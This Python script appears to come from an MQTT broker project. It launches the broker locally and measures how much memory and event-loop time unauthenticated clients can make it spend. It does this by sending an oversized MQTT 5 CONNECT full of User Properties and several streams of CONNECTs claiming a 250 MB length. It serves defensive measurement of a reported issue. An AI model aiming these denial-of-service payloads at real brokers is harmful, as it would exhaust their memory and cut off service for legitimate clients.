"""Measure what unauthenticated clients can make a broker process spend (issue 14, item 2).

    python scripts/preauth_attack.py [--src DIR] [--mb 40] [--streams 4] [--stream-mb 120]

Starts ``python -m mqttd`` from ``--src`` (default: this checkout) on a free loopback port
with a password file, so anonymous clients and wrong passwords are refused, then runs two
attacks while a connected client measures PINGREQ -> PINGRESP round trips every 10 ms:

1. "user properties": one MQTT 5 CONNECT with a wrong password and ``--mb`` MB of User
   Properties of two 1-byte strings each (7 bytes on the wire apiece);
2. "streams": ``--streams`` sockets each sending ``--stream-mb`` MB of a CONNECT that
   claims a Remaining Length of 250 MB, all at once.

For each it prints the broker's resident memory before, at its peak (VmHWM, reset before
each attack) and 2 s after the attack ended, how long the attack took, and the longest
round trip of the other client (how long the event loop was blocked). Only the standard
library is used, so ``--src`` may point at an older checkout to measure it the same way.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
# The Remaining Length the streamed CONNECTs claim: 250 MB, under the default maximum
# packet size, so only a CONNECT-specific bound stops them early.
CLAIMED = 250_000_000


def _string(data: bytes) -> bytes:
    return struct.pack("!H", len(data)) + data


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        n, digit = divmod(n, 128)
        out.append(digit | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _packet(first: int, body: bytes) -> bytes:
    return bytes([first]) + _varint(len(body)) + body


def user_property_connect(megabytes: float) -> bytes:
    """A 5.0 CONNECT, user "u", wrong password, and `megabytes` MB of User Properties."""
    pair = b"\x26" + _string(b"k") + _string(b"v")
    props = pair * int(megabytes * 1_000_000 / len(pair))
    body = (
        _string(b"MQTT")
        + bytes([5, 0xC2])  # level 5; user name, password, clean start
        + struct.pack("!H", 60)
        + _varint(len(props))
        + props
        + _string(b"attacker")
        + _string(b"u")
        + _string(b"wrong")
    )
    return _packet(0x10, body)


def rss_kb(pid: int) -> tuple[int, int]:
    """(VmRSS, VmHWM) of `pid` in kB."""
    fields = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            fields[key] = int(value.split()[0])
    return fields["VmRSS"], fields["VmHWM"]


def reset_peak(pid: int) -> None:
    """Reset VmHWM to the current RSS (Linux >= 4.0: write 5 to clear_refs)."""
    # Without it the peak includes the earlier attack.
    with contextlib.suppress(OSError):
        Path(f"/proc/{pid}/clear_refs").write_text("5")


class Pinger(threading.Thread):
    """A connected 3.1.1 client timing PINGREQ -> PINGRESP every 10 ms."""

    def __init__(self, port: int) -> None:
        super().__init__(daemon=True)
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.sendall(
            _packet(
                0x10,
                _string(b"MQTT")
                + bytes([4, 0xC2])
                + b"\x00\x3c"
                + _string(b"pinger")
                + _string(b"u")
                + _string(b"pw"),
            )
        )
        assert self.sock.recv(4)[:2] == b"\x20\x02"
        self.worst = 0.0
        self.running = True

    def run(self) -> None:
        while self.running:
            start = time.perf_counter()
            self.sock.sendall(b"\xc0\x00")
            got = b""
            while len(got) < 2:
                chunk = self.sock.recv(2 - len(got))
                if not chunk:
                    return
                got += chunk
            self.worst = max(self.worst, time.perf_counter() - start)
            time.sleep(0.01)

    def take_worst(self) -> float:
        worst, self.worst = self.worst, 0.0
        return worst


def send_all(data: bytes, port: int) -> str:
    """Send `data` on a new socket; what the broker answered (or how it ended)."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        try:
            sock.sendall(data)
        except OSError as exc:
            return f"closed while sending ({exc.__class__.__name__})"
        sock.settimeout(30)
        try:
            answer = sock.recv(64)
        except OSError as exc:
            return f"{exc.__class__.__name__}"
        if not answer:
            return "closed"
        return f"answered 0x{answer[0]:02X}..." + (
            f" CONNACK reason 0x{answer[3]:02X}" if answer[0] == 0x20 and len(answer) > 3 else ""
        )


def stream_connect(port: int, megabytes: float, results: list[str]) -> None:
    chunk = b"\x00" * 65536
    sent = 0
    with socket.create_connection(("127.0.0.1", port)) as sock:
        try:
            sock.sendall(b"\x10" + _varint(CLAIMED) + _string(b"MQTT") + bytes([4, 0x02]))
            while sent < megabytes * 1_000_000:
                sock.sendall(chunk)
                sent += len(chunk)
        except OSError as exc:
            results.append(f"closed after {sent / 1e6:.1f} MB ({exc.__class__.__name__})")
            return
    results.append(f"sent all {sent / 1e6:.0f} MB")


def report(name: str, pid: int, before: int, started: float, pinger: Pinger, extra: str) -> None:
    took = time.perf_counter() - started
    _, peak = rss_kb(pid)
    time.sleep(2)
    after, _ = rss_kb(pid)
    print(
        f"{name}: RSS {before / 1024:.0f} MB before, {peak / 1024:.0f} MB peak, "
        f"{after / 1024:.0f} MB 2 s after; {took:.1f} s; other client's worst round trip "
        f"{pinger.take_worst() * 1000:.0f} ms; {extra}"
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--src", default=str(ROOT), help="checkout to run mqttd from")
    parser.add_argument("--mb", type=float, default=40.0)
    parser.add_argument("--streams", type=int, default=4)
    parser.add_argument("--stream-mb", type=float, default=120.0)
    args = parser.parse_args()

    with tempfile.TemporaryDirectory() as tmp:
        sys.path.insert(0, args.src)
        from mqttd.auth.password_file import PasswordFile

        passwd = PasswordFile(Path(tmp) / "passwd")
        passwd.set("u", "pw")
        passwd.save()
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        config = Path(tmp) / "mqttd.toml"
        config.write_text(
            f'[auth]\npassword_file = "{Path(tmp) / "passwd"}"\n\n[persistence]\nenabled = false\n'
        )
        env = dict(os.environ, PYTHONPATH=args.src)
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "mqttd",
                "-c",
                str(config),
                "-p",
                str(port),
                "--host",
                "127.0.0.1",
            ],
            cwd=tmp,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        try:
            assert proc.stdout is not None
            for line in proc.stdout:
                if line.rstrip().endswith("mqttd ready"):
                    break
            else:
                print("the broker did not start", file=sys.stderr)
                return 1
            threading.Thread(target=proc.stdout.read, daemon=True).start()
            pinger = Pinger(port)
            pinger.start()
            time.sleep(0.5)
            pinger.take_worst()

            data = user_property_connect(args.mb)
            before, _ = rss_kb(proc.pid)
            reset_peak(proc.pid)
            started = time.perf_counter()
            answer = send_all(data, port)
            report(
                f"user properties ({len(data) / 1e6:.0f} MB CONNECT)",
                proc.pid,
                before,
                started,
                pinger,
                f"attacker: {answer}",
            )

            before, _ = rss_kb(proc.pid)
            reset_peak(proc.pid)
            results: list[str] = []
            threads = [
                threading.Thread(target=stream_connect, args=(port, args.stream_mb, results))
                for _ in range(args.streams)
            ]
            started = time.perf_counter()
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            report(
                f"streams ({args.streams} x {args.stream_mb:.0f} MB)",
                proc.pid,
                before,
                started,
                pinger,
                "attackers: " + "; ".join(sorted(set(results))),
            )
            pinger.running = False
        finally:
            proc.terminate()
            proc.wait(10)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
